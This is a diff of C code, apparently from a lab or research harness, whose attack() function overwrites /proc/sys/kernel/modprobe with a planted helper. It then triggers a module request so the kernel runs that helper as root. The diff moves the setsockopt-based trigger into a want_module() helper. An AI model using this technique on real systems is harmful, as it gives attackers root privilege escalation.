@@ -5,13 +5,10 @@
  */
 #define _GNU_SOURCE
 #include <fcntl.h>
-#include <netinet/in.h>
-#include <netinet/tcp.h>
-#include <string.h>
-#include <sys/socket.h>
 #include <unistd.h>
 
 #include "attack.h"
+#include "usermode.h"
 
 static const char path[] = "/proc/sys/kernel/modprobe";
 
@@ -27,8 +24,7 @@ void attack(void)
 	close(fd);
 	drop_helper("/tmp/lab-modprobe", mark);
 	write_text(path, "/tmp/lab-modprobe");
-	/* No such algorithm: the kernel asks for a module that has it, and waits for the answer. */
-	setsockopt(socket(AF_INET, SOCK_STREAM, 0), IPPROTO_TCP, TCP_CONGESTION, "lab", 3);
+	want_module();
 	done = file_begins_soon(mark, FOREIGN_TEXT);
 	write_text(path, before);
 	if (done)
